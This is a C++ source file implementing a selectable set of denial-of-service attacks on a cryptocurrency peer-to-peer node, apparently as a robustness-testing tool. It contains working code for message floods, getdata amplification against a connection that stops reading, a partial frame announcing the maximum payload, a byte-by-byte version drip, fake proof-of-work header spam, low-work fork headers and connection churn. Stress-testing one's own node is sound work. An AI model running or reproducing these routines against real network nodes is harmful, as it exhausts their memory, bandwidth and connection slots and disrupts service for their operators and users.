#include "attacks.hpp"

#include "messages/primitives/hash.hpp"
#include "runtime/chain/genesis.hpp"
#include "runtime/chain/header_tree.hpp"
#include "runtime/chain/pow.hpp"

#include <algorithm>

namespace qtc::attack {

namespace {

using namespace std::chrono_literals;

hash256 random_hash(std::mt19937_64& rng) {
  hash256 h;
  for (std::size_t i = 0; i < h.size(); i += 8) {
    auto v = rng();
    std::copy_n(reinterpret_cast<const std::uint8_t*>(&v), 8, h.data() + i);
  }
  return h;
}

bytes random_bytes(std::mt19937_64& rng, std::size_t n) {
  bytes out(n);
  for (auto& b : out)
    b = static_cast<std::uint8_t>(rng());
  return out;
}

/// A public unicast IPv4 address: what the node would keep and relay, so the flood costs it
/// the most.
ip_bytes random_routable_ipv4(std::mt19937_64& rng) {
  for (;;) {
    auto v = static_cast<std::uint32_t>(rng());
    auto ip = ipv4(static_cast<std::uint8_t>(v >> 24), static_cast<std::uint8_t>(v >> 16),
                   static_cast<std::uint8_t>(v >> 8), static_cast<std::uint8_t>(v));
    if (classify(ip) == ip_class::routable)
      return ip;
  }
}

std::uint32_t unix_now() {
  return static_cast<std::uint32_t>(std::chrono::duration_cast<std::chrono::seconds>(
                                        std::chrono::system_clock::now().time_since_epoch())
                                        .count());
}

/// Calls `send_one` at --rate on a ready connection. A message due while ours are still unread
/// by the node is skipped and counted (sends_deferred) rather than queued: the node not
/// reading is its defence, and our memory stays bounded. After a stall the schedule restarts
/// from now instead of catching up in one burst.
template <class F>
void paced(connection& c, run_context& r, F&& send_one) {
  if (!c.version_up)
    return;
  auto period =
      std::chrono::duration_cast<clock::duration>(std::chrono::duration<double>{1.0 / r.o.rate});
  if (c.next_send == time_point::max() || c.next_send + 1s < r.now)
    c.next_send = r.now;
  for (int n = 0; c.next_send <= r.now && n < 1000; ++n) {
    c.next_send += period;
    if (c.backlogged())
      ++c.t.sends_deferred;
    else
      send_one();
  }
}

/// Does nothing beyond the handshake it reaches: silent, no-verack, shared-identity.
class hold final : public attack_behaviour {
public:
  explicit hold(std::size_t core_sends) : core_sends_(core_sends) {}
  std::size_t core_sends_allowed() const override {
    return core_sends_;
  }

private:
  std::size_t core_sends_;
};

/// Pings at --rate; each pong's round trip is timed (from queueing the ping), so that a slow
/// pinger from another address doubles as an honest peer checking the node still answers
/// (Core's p2p_invalid_messages: pings answered within 2 s while another peer sends junk).
class ping_flood final : public attack_behaviour {
  void on_tick(connection& c, run_context& r) override {
    paced(c, r, [&] {
      auto nonce = r.rng();
      if (sent_.size() < 100'000)
        sent_[nonce] = r.now;
      c.queue_message(ping_message{nonce});
    });
  }
  void on_frame(connection& c, const frame& f, run_context& r) override {
    if (f.command != "pong" || f.payload.size() != 8)
      return;
    std::uint64_t nonce = 0;
    for (int i = 7; i >= 0; --i)
      nonce = (nonce << 8) | f.payload[static_cast<std::size_t>(i)];
    auto i = sent_.find(nonce);
    if (i == sent_.end())
      return;
    ++c.t.attack["pongs_timed"];
    if (r.now - i->second > std::chrono::seconds{2})
      ++c.t.attack["pongs_after_2s"];
    sent_.erase(i);
  }

  std::map<std::uint64_t, time_point> sent_; ///< pings awaiting their pong, by nonce
};

class getheaders_flood final : public attack_behaviour {
  void on_tick(connection& c, run_context& r) override {
    paced(c, r, [&] {
      getheaders_message gh;
      gh.version = static_cast<std::uint32_t>(r.spec.protocol_version);
      gh.locator = {r.chain.hashes.front()};
      c.queue_message(gh);
    });
  }
};

/// getdata-nonreader and getdata-amplify: learn the chain's hashes (unless --data-dir gave
/// them), then queue the getdata messages as the socket takes them; the non-reader stops
/// reading as its burst begins.
class getdata_burst final : public attack_behaviour {
public:
  explicit getdata_burst(bool reads) : reads_(reads) {}
  bool small_receive_buffer() const override {
    return !reads_;
  }
  void on_ready(connection& c, run_context& r) override {
    if (r.chain.complete)
      start_burst(c, r);
    else
      ask_headers(c, r);
  }
  void on_frame(connection& c, const frame& f, run_context& r) override;
  void on_tick(connection& c, run_context& r) override;

private:
  enum stage { before = 0, learning, bursting, done };
  void ask_headers(connection& c, run_context& r) {
    c.stage = learning;
    getheaders_message gh;
    gh.version = static_cast<std::uint32_t>(r.spec.protocol_version);
    gh.locator = {r.chain.hashes.back()};
    c.queue_message(gh);
  }
  void start_burst(connection& c, run_context& r);
  bool reads_;
};

void getdata_burst::on_frame(connection& c, const frame& f, run_context& r) {
  if (c.stage != learning || f.command != "headers")
    return;
  auto decoded = decode_message(f);
  auto* h = std::get_if<headers_message>(&decoded.message);
  if (!h)
    return;
  for (const auto& header : h->headers)
    if (header.prev_block == r.chain.hashes.back())
      r.chain.hashes.push_back(block_hash(header));
  if (h->headers.size() < max_headers_results && !r.chain.complete) {
    r.chain.complete = true;
    r.log(c, "chain learned blocks=" + std::to_string(r.chain.hashes.size()));
  }
  if (r.chain.complete)
    start_burst(c, r);
  else
    ask_headers(c, r);
}

void getdata_burst::start_burst(connection& c, run_context& r) {
  if (!r.chain.getdata_frame)
    r.chain.getdata_frame = make_getdata_frame(r.chain, r.o, r.spec);
  c.stage = bursting;
  if (!reads_) {
    c.stop_reading();
    r.log(c, "reading stopped; sending getdata bursts=" + std::to_string(r.o.bursts)
                 + " items=" + std::to_string(r.o.items));
  }
}

void getdata_burst::on_tick(connection& c, run_context& r) {
  if (c.stage == learning && r.chain.complete)
    start_burst(c, r);
  if (c.stage != bursting)
    return;
  // The frame is shared; queued one at a time as the socket takes them, so a node that stops
  // reading ours costs us one frame per connection, not --bursts of them.
  while (c.progress < r.o.bursts && !c.backlogged()) {
    c.queue_plain(r.chain.getdata_frame, "getdata");
    ++c.progress;
    ++c.t.attack["getdata_bursts_queued"];
    c.t.attack["getdata_items_requested"] += r.o.items;
  }
  if (c.progress == r.o.bursts) {
    c.stage = done;
    r.log(c, "getdata bursts queued count=" + std::to_string(c.progress));
  }
}

/// A frame header announcing the largest payload, then --bytes of it, never the rest.
class partial_frame final : public attack_behaviour {
  void on_ready(connection& c, run_context& r) override {
    if (!frame_) {
      auto payload = random_bytes(r.rng, r.o.bytes);
      bytes f;
      append_frame(f, r.spec.magic, "block", payload);
      // The length field (offset 16) promises the most the node accepts: it must buffer.
      auto announced = r.spec.max_message_size;
      for (int i = 0; i < 4; ++i)
        f[16 + i] = static_cast<std::uint8_t>(announced >> (8 * i));
      frame_ = std::make_shared<const bytes>(std::move(f));
    }
    c.queue_plain(frame_, "block(partial)");
    // Whatever followed (a pong from our session) would become its payload and could finish it.
    c.tap()->core_sends_allowed = 0;
    c.t.attack["partial_frame_bytes"] += r.o.bytes;
    r.log(c, "partial frame queued announced=" + std::to_string(r.spec.max_message_size)
                 + " sent=" + std::to_string(r.o.bytes));
  }
  std::shared_ptr<const bytes> frame_;
};

/// The version message one byte at a time, each in its own transport message; the core sends
/// its quantumproof and is muted until the last byte, then finishes the handshake (so the run
/// shows whether the node still accepts it).
class slow_version final : public attack_behaviour {
  std::size_t core_sends_allowed() const override {
    return 1; // the quantumproof, which must come first
  }
  void on_transport(connection& c, run_context& r) override {
    version_message v;
    v.version = r.spec.protocol_version;
    v.services = 1;
    std::copy_n(r.o.target_ip.begin(), 16, v.addr_recv.ip.begin());
    v.addr_recv.port = r.o.target_port;
    v.nonce = r.rng() | 1;
    v.user_agent = std::string{"/qtc-attack:"} + QTC_VERSION + "/";
    c.scratch.clear();
    append_message(c.scratch, r.spec.magic, v);
    c.next_send = r.now;
    r.log(c, "dripping version bytes=" + std::to_string(c.scratch.size())
                 + " interval_ms=" + std::to_string(r.o.interval_ms));
  }
  void on_tick(connection& c, run_context& r) override {
    auto interval = std::chrono::milliseconds{r.o.interval_ms};
    while (c.transport_up && c.progress < c.scratch.size() && c.next_send <= r.now) {
      auto last = c.progress + 1 == c.scratch.size();
      c.queue_plain(std::make_shared<const bytes>(1, c.scratch[c.progress]), last ? "version" : "");
      ++c.progress;
      ++c.t.attack["version_bytes_dripped"];
      c.next_send += interval;
      if (last) {
        ++c.t.attack["versions_completed"];
        c.next_send = time_point::max();
        c.tap()->core_sends_allowed = SIZE_MAX;
        r.log(c,
              "version complete seconds="
                  + std::to_string(std::chrono::duration<double>(r.now - c.connected_at).count()));
      }
    }
  }
};

class junk_handshake final : public attack_behaviour {
  bool uses_session(const options&) const override {
    return false;
  }
  void on_tcp(connection& c, run_context& r) override {
    auto junk = random_bytes(r.rng, r.o.bytes);
    // Never the start of a TLS ClientHello (16 03 0x): the node must take it for Noise.
    if (junk[0] == 0x16)
      junk[0] = 0x17;
    c.queue_wire(junk);
    c.t.attack["junk_bytes"] += junk.size();
    r.log(c, "junk sent bytes=" + std::to_string(junk.size()));
  }
};

class bad_checksum final : public attack_behaviour {
  void on_tick(connection& c, run_context& r) override {
    paced(c, r, [&] {
      auto payload = random_bytes(r.rng, 8);
      c.queue_frame("ping", payload, true);
    });
  }
};

class unknown_flood final : public attack_behaviour {
  void on_tick(connection& c, run_context& r) override {
    paced(c, r, [&] {
      auto payload = random_bytes(r.rng, 32);
      c.queue_frame("qtc-attack", payload);
    });
  }
};

class addr_flood final : public attack_behaviour {
  void on_tick(connection& c, run_context& r) override {
    paced(c, r, [&] {
      addr_message a;
      auto now = unix_now();
      for (std::size_t i = 0; i < max_addr_entries; ++i) {
        timed_address t;
        t.time = now;
        t.address.services = 1;
        t.address.ip = random_routable_ipv4(r.rng);
        t.address.port = r.spec.default_port;
        a.addresses.push_back(t);
      }
      c.queue_message(a);
    });
  }
};

class inv_flood final : public attack_behaviour {
  void on_tick(connection& c, run_context& r) override {
    paced(c, r, [&] {
      inv_message inv;
      inv.items.resize(r.o.items);
      for (auto& item : inv.items)
        item = {static_cast<std::uint32_t>(inv_type::tx), random_hash(r.rng)};
      c.queue_message(inv);
    });
  }
};

/// Headers whose first parent nobody has; the rest chain onto it, as a peer announcing a
/// branch would send them. Each meets the chain's (easy) target: a node checks that before it
/// looks for the parent, and one that misses it is invalid data, not spam.
class header_spam final : public attack_behaviour {
  void on_tick(connection& c, run_context& r) override {
    paced(c, r, [&] {
      auto limit = chain_params::from(r.spec).pow_limit.to_big_endian();
      headers_message h;
      auto prev = random_hash(r.rng);
      for (unsigned i = 0; i < r.o.items; ++i) {
        block_header b;
        b.version = 0x20000000;
        b.prev_block = prev;
        b.merkle_root = random_hash(r.rng);
        b.time = unix_now();
        b.bits = r.spec.genesis_bits;
        b.nonce = static_cast<std::uint32_t>(r.rng());
        while (!check_proof_of_work(block_hash(b), b.bits, limit))
          ++b.nonce;
        prev = block_hash(b);
        h.headers.push_back(b);
      }
      c.queue_message(h);
    });
  }
};

/// A fork from genesis with valid proof of work (mined at the chain's easy target) and times a
/// block spacing apart: it connects and every header is valid, but it leads to less work than
/// the node's chain. A new fork (another merkle root) in every message.
class low_work_headers final : public attack_behaviour {
  void on_tick(connection& c, run_context& r) override {
    paced(c, r, [&] {
      const auto genesis = make_genesis_block(r.spec).header;
      auto limit = chain_params::from(r.spec).pow_limit.to_big_endian();
      auto fork = random_hash(r.rng);
      headers_message h;
      auto prev = block_hash(genesis);
      for (unsigned i = 0; i < r.o.items; ++i) {
        block_header b;
        b.version = 0x20000000;
        b.prev_block = prev;
        b.merkle_root = fork;
        b.time = genesis.time + static_cast<std::uint32_t>(r.spec.target_spacing.count()) * (i + 1);
        b.bits = genesis.bits;
        while (!check_proof_of_work(block_hash(b), b.bits, limit))
          ++b.nonce;
        prev = block_hash(b);
        h.headers.push_back(b);
      }
      c.queue_message(h);
    });
  }
};

class connection_churn final : public attack_behaviour {
  bool uses_session(const options& o) const override {
    return o.handshake;
  }
  bool reconnects() const override {
    return true;
  }
  void on_tcp(connection& c, run_context& r) override {
    if (!r.o.handshake)
      c.close_request = "churn: disconnect once connected";
  }
  void on_ready(connection& c, run_context&) override {
    c.close_request = "churn: disconnect after the handshake";
  }
  void on_tick(connection& c, run_context& r) override {
    // A handshake the node lets hang would stop this slot's churn: give up on it.
    if (!c.goal_reached && r.now - c.started > 5s)
      c.close_request = "churn: the handshake took more than 5 s";
  }
};

} // namespace

std::shared_ptr<const bytes> make_getdata_frame(const chain_view& chain, const options& o,
                                                const chain_spec& spec) {
  getdata_message gd;
  gd.items.reserve(o.items);
  for (unsigned i = 0; i < o.items; ++i)
    gd.items.push_back(
        {static_cast<std::uint32_t>(inv_type::block), chain.hashes[i % chain.hashes.size()]});
  auto out = std::make_shared<bytes>();
  append_message(*out, spec.magic, gd);
  return out;
}

std::unique_ptr<attack_behaviour> make_behaviour(attack_kind kind) {
  switch (kind) {
  case attack_kind::ping_flood:
    return std::make_unique<ping_flood>();
  case attack_kind::getheaders_flood:
    return std::make_unique<getheaders_flood>();
  case attack_kind::getdata_nonreader:
    return std::make_unique<getdata_burst>(false);
  case attack_kind::getdata_amplify:
    return std::make_unique<getdata_burst>(true);
  case attack_kind::partial_frame:
    return std::make_unique<partial_frame>();
  case attack_kind::slow_version:
    return std::make_unique<slow_version>();
  case attack_kind::no_verack:
    return std::make_unique<hold>(2); // our quantumproof and version, then nothing (no verack)
  case attack_kind::silent:
    return std::make_unique<hold>(0); // not even a quantumproof

  case attack_kind::junk_handshake:
    return std::make_unique<junk_handshake>();
  case attack_kind::bad_checksum:
    return std::make_unique<bad_checksum>();
  case attack_kind::unknown_flood:
    return std::make_unique<unknown_flood>();
  case attack_kind::addr_flood:
    return std::make_unique<addr_flood>();
  case attack_kind::inv_flood:
    return std::make_unique<inv_flood>();
  case attack_kind::header_spam:
    return std::make_unique<header_spam>();
  case attack_kind::low_work_headers:
    return std::make_unique<low_work_headers>();
  case attack_kind::connection_churn:
    return std::make_unique<connection_churn>();
  case attack_kind::shared_identity:
    return std::make_unique<hold>(SIZE_MAX);
  }
  return nullptr;
}

} // namespace qtc::attack
